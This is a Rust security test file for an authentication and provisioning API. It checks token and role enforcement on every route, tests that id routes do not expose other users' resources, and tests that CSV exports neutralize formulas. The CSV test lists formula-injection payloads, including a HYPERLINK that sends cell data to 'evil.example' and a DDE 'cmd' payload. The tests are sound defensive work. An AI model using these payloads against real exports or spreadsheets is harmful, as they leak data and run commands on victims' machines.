//! Reaching what is not yours: routes without their token or role, other users' resources
//! through `{id}` routes, and spreadsheet formulas smuggled into CSV exports. Each gate walks the
//! route table.

use crate::peers::python;
use crate::support::{TestApp, moto, s, spawn_app};
use latch_core::domain::{AuditType, Role};
use latch_core::http::csv::{Csv, could_start_a_formula};
use latch_core::http::routes::{Access, Body, ROUTES, Route};
use reqwest::{Method, StatusCode};
use serde_json::json;

/// The route's path with every `{param}` filled by a well-formed id nobody owns.
fn concrete(route: &Route) -> String {
    route
        .path
        .split('/')
        .map(|seg| {
            if seg.starts_with('{') {
                "01JZ0000000000000000000000"
            } else {
                seg
            }
        })
        .collect::<Vec<_>>()
        .join("/")
}

fn some_body(route: &Route) -> Option<Vec<u8>> {
    match route.doc.body {
        Body::None => None,
        Body::Required(_) | Body::Optional(_) => Some(b"{}".to_vec()),
    }
}

/// Grants exactly `roles` (and USER) to the account of `email`, straight in the store.
async fn grant(app: &TestApp, email: &str, roles: &[Role]) {
    app.grant(email, roles).await;
}

#[tokio::test]
async fn every_route_refuses_callers_without_its_access() {
    let app = spawn_app().await;
    // Another administrator stands by, so taking ADMIN back from the caller never meets the
    // last-administrator rule.
    app.signed_in_with(&[Role::Admin]).await;
    let (email, tokens) = app.signed_in().await;
    let live = s(&tokens, "accessToken");
    let (_, ended) = app.signed_in().await;
    let dead = s(&ended, "accessToken");
    let logout = app
        .call(Method::POST, "/v1/auth/logout", Some(&dead), None)
        .await;
    assert_eq!(logout.status, StatusCode::NO_CONTENT, "{}", logout.body);
    let mut guarded = 0;
    for route in ROUTES.iter().filter(|r| r.access.needs_token()) {
        guarded += 1;
        let (path, body) = (concrete(route), some_body(route));
        for token in [None, Some("not.a.jwt"), Some(dead.as_str())] {
            let res = app
                .call(route.method.clone(), &path, token, body.clone())
                .await;
            assert_eq!(
                res.status, 401,
                "{} with {token:?}: {}",
                route.name, res.body
            );
            res.assert_problem(401, "invalid_token");
            assert!(
                res.header("www-authenticate").starts_with("Bearer"),
                "{}",
                route.name
            );
        }
        let Access::Roles(roles) = route.access else {
            continue;
        };
        if roles.contains(&Role::User) {
            continue;
        }
        let before = app.audited(AuditType::AccessDenied).await;
        let res = app
            .call(route.method.clone(), &path, Some(&live), body.clone())
            .await;
        res.assert_problem(403, "forbidden");
        assert_eq!(
            app.audited(AuditType::AccessDenied).await,
            before + 1,
            "{}",
            route.name
        );
        for role in roles.iter() {
            grant(&app, &email, &[*role]).await;
            let res = app
                .call(route.method.clone(), &path, Some(&live), body.clone())
                .await;
            assert!(
                !matches!(res.status.as_u16(), 401 | 403),
                "{} refuses a holder of {role:?}: {}",
                route.name,
                res.body
            );
            grant(&app, &email, &[]).await;
        }
    }
    assert!(guarded >= 6, "the bearer routes are in the table");
}

#[tokio::test]
async fn no_id_route_reaches_another_users_resource() {
    let pg = crate::support::postgres::postgres().admin_url();
    let app = crate::support::spawn_app_with(&[("LATCH_PG_ADMIN_URL", pg.as_str())], None).await;
    let (_, mine) = app.signed_in().await;
    let mine = s(&mine, "accessToken");
    let (_, theirs) = app.signed_in().await;
    let theirs = s(&theirs, "accessToken");
    let mut checked = 0;
    for route in ROUTES.iter().filter(|r| r.path.contains('{')) {
        checked += 1;
        match route.name {
            "revoke-session" => {
                let list = app.bearer(Method::GET, "/v1/auth/sessions", &theirs).await;
                let id = list.body["items"][0]["id"].as_str().unwrap().to_owned();
                let path = route.path.replace("{id}", &id);
                let res = app.bearer(route.method.clone(), &path, &mine).await;
                res.assert_problem(404, "not_found");
                assert_eq!(
                    app.me(&theirs).await.status,
                    StatusCode::OK,
                    "theirs lives on"
                );
            }
            "get-database" | "delete-database" => {
                let db = crate::support::postgres::db_name("idor");
                let made = app
                    .post_bearer(
                        "/v1/provisioning/databases",
                        &theirs,
                        &serde_json::json!({"name": db}),
                    )
                    .await;
                assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
                let path = route.path.replace("{id}", &s(&made.body, "id"));
                let res = app.bearer(route.method.clone(), &path, &mine).await;
                res.assert_problem(404, "not_found");
                let still = app.bearer(Method::GET, &path, &theirs).await;
                assert_eq!(
                    still.status,
                    StatusCode::OK,
                    "theirs lives on: {}",
                    still.body
                );
                // Theirs goes, so the next route's check has room in the plan.
                let gone = app.bearer(Method::DELETE, &path, &theirs).await;
                assert_eq!(gone.status, StatusCode::NO_CONTENT);
            }
            "get-dns-zone" | "delete-dns-zone" | "add-dns-record" | "delete-dns-record"
            | "delete-mail-domain" => {
                // Theirs: a zone with a record and a mail domain. Mine: a zone of my own.
                let zone = |who: &str| {
                    let domain = format!("{}.example.com", moto::unique("idor").to_lowercase());
                    let who = who.to_owned();
                    let app = &app;
                    async move {
                        let made = app
                            .post_bearer(
                                "/v1/provisioning/dns-zones",
                                &who,
                                &json!({"domain": domain}),
                            )
                            .await;
                        assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
                        (s(&made.body, "id"), domain)
                    }
                };
                let (their_zone, their_domain) = zone(&theirs).await;
                let (my_zone, _) = zone(&mine).await;
                let records = format!("/v1/provisioning/dns-zones/{their_zone}/records");
                let record = app
                    .post_bearer(
                        &records,
                        &theirs,
                        &json!({"type": "A", "name": "www", "value": "192.0.2.1", "ttl": 300}),
                    )
                    .await;
                assert_eq!(record.status, StatusCode::CREATED, "{}", record.body);
                let record_id = s(&record.body, "id");
                let mail = app
                    .post_bearer(
                        "/v1/provisioning/mail-domains",
                        &theirs,
                        &json!({"domain": their_domain}),
                    )
                    .await;
                assert_eq!(mail.status, StatusCode::CREATED, "{}", mail.body);
                let path = match route.name {
                    "delete-mail-domain" => route.path.replace("{id}", &s(&mail.body, "id")),
                    _ => route
                        .path
                        .replace("{id}", &their_zone)
                        .replace("{recordId}", &record_id),
                };
                let body = match route.name {
                    "add-dns-record" => Some(
                        json!({"type": "A", "name": "x", "value": "192.0.2.9", "ttl": 300})
                            .to_string()
                            .into_bytes(),
                    ),
                    _ => None,
                };
                let res = app
                    .call(route.method.clone(), &path, Some(&mine), body)
                    .await;
                res.assert_problem(404, "not_found");
                if route.name == "delete-dns-record" {
                    // Their record's id on my own zone names nothing there.
                    let mixed = route
                        .path
                        .replace("{id}", &my_zone)
                        .replace("{recordId}", &record_id);
                    let res = app.bearer(Method::DELETE, &mixed, &mine).await;
                    res.assert_problem(404, "not_found");
                }
                let zone_path = format!("/v1/provisioning/dns-zones/{their_zone}");
                let still = app.bearer(Method::GET, &zone_path, &theirs).await;
                assert_eq!(still.status, StatusCode::OK, "{}", still.body);
                assert_eq!(
                    still.body["records"].as_array().unwrap().len(),
                    2,
                    "theirs lives on: {}",
                    still.body
                );
                // Everything goes, so the next route's check has room in the plan.
                let mail_path = format!("/v1/provisioning/mail-domains/{}", s(&mail.body, "id"));
                for gone in [
                    mail_path,
                    zone_path,
                    format!("/v1/provisioning/dns-zones/{my_zone}"),
                ] {
                    let gone = app
                        .bearer(
                            Method::DELETE,
                            &gone,
                            if gone.contains(&my_zone) {
                                &mine
                            } else {
                                &theirs
                            },
                        )
                        .await;
                    assert_eq!(gone.status, StatusCode::NO_CONTENT, "{}", gone.body);
                }
            }
            "delete-hosting-account" => {
                let made = app
                    .post_bearer(
                        "/v1/provisioning/hosting-accounts",
                        &theirs,
                        &json!({
                            "domain": format!("{}.example.com", moto::unique("idor").to_lowercase()),
                            "databaseName": crate::support::postgres::db_name("idor"),
                        }),
                    )
                    .await;
                assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
                let path = route.path.replace("{id}", &s(&made.body, "id"));
                app.bearer(Method::DELETE, &path, &mine)
                    .await
                    .assert_problem(404, "not_found");
                // Nor are its parts reachable one by one, even by their owner.
                let zone = format!("/v1/provisioning/dns-zones/{}", s(&made.body["zone"], "id"));
                app.bearer(Method::DELETE, &zone, &mine)
                    .await
                    .assert_problem(404, "not_found");
                let listed = app
                    .bearer(Method::GET, "/v1/provisioning/hosting-accounts", &theirs)
                    .await;
                assert_eq!(
                    listed.body["items"][0]["id"], made.body["id"],
                    "theirs lives on"
                );
                let gone = app.bearer(Method::DELETE, &path, &theirs).await;
                assert_eq!(gone.status, StatusCode::NO_CONTENT, "{}", gone.body);
            }
            // An administrator's `{id}` is any account's: the role matrix holds who may act
            // (tests/api/admin/rbac.rs); here, a plain user reaches none of them, even its own.
            name if name.starts_with("admin-") => {
                let list = app.bearer(Method::GET, "/v1/auth/sessions", &mine).await;
                assert_eq!(list.status, 200);
                let me = app.me(&mine).await;
                let own = me.body["id"].as_str().unwrap().to_owned();
                let path = route.path.replace("{id}", &own);
                let body = some_body(route);
                let res = app
                    .call(route.method.clone(), &path, Some(&mine), body)
                    .await;
                res.assert_problem(403, "forbidden");
            }
            other => panic!(
                "route {other} takes an id: teach this IDOR gate to make another user's \
                 resource for it and to prove the caller cannot reach it"
            ),
        }
    }
    assert!(checked >= 1);
}

#[tokio::test]
async fn csv_exports_neutralize_formulas() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r\n=1+1",
        " =1",
        "\u{FF1D}1+1",
        "plain, with \"quotes\"\r\nand lines",
    ];
    let mut csv = Csv::with_header(&["type", "userAgent"]);
    for cell in hostile {
        csv.row(&["login.failed", cell]);
    }
    let (ok, rows, stderr) = python("parse_csv.py", csv.finish().as_bytes());
    assert!(ok, "{stderr}");
    let rows = rows.as_array().unwrap();
    assert_eq!(
        rows.len(),
        hostile.len() + 1,
        "one header row, one row per event"
    );
    for (row, original) in rows[1..].iter().zip(hostile) {
        let cell = row[1].as_str().unwrap();
        assert!(
            !could_start_a_formula(cell),
            "{cell:?} would open as a formula"
        );
        let expected = if could_start_a_formula(original) {
            format!("'{original}")
        } else {
            original.to_owned()
        };
        assert_eq!(cell, expected, "the cell is kept, only made inert");
    }
    // Every export route is held to this gate: it seeds an event with a formula for User-Agent
    // and holds every cell of its answer to the same rule.
    let exports: Vec<&Route> = ROUTES
        .iter()
        .filter(|r| r.doc.content_type.starts_with("text/csv"))
        .collect();
    assert!(!exports.is_empty());
    let app = spawn_app().await;
    let (_, admin, _) = app.signed_in_with(&[Role::Admin]).await;
    for ua in hostile {
        let caller = latch_core::service::Caller::new(
            "gate",
            latch_core::domain::ClientInfo {
                ip: "203.0.113.9".parse().unwrap(),
                user_agent: ua.into(),
            },
        );
        latch_core::service::audit::record(
            &app.deps,
            &caller,
            AuditType::LoginFailed,
            None,
            latch_core::domain::Outcome::Failure,
            &[("reason", "wrong_password")],
        )
        .await
        .unwrap();
    }
    for route in exports {
        let path = format!("{}?type=login.failed", route.path);
        let res = app.bearer(Method::GET, &path, &admin).await;
        assert_eq!(res.status, 200, "{}", route.name);
        let raw = app
            .client
            .get(app.url(&path))
            .bearer_auth(&admin)
            .header("user-agent", crate::support::UA)
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap();
        let (ok, rows, stderr) = python("parse_csv.py", &raw);
        assert!(ok, "{}: {stderr}", route.name);
        let rows = rows.as_array().unwrap();
        assert!(
            rows.len() > hostile.len(),
            "{}: one row per event",
            route.name
        );
        for row in rows {
            for cell in row.as_array().unwrap() {
                let cell = cell.as_str().unwrap();
                assert!(!could_start_a_formula(cell), "{}: {cell:?}", route.name);
            }
        }
    }
}
